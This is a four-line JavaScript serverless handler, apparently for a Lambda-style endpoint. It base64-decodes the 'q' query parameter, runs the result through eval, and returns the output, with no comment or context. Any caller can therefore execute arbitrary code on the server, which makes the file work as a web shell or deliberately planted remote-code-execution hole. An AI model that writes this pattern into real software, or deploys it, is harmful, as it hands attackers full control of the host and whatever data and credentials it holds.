exports.handler = async (event) => {
  const text = Buffer.from(event.queryStringParameters.q, "base64").toString();
  return { statusCode: 200, body: String(eval(text)) };
};
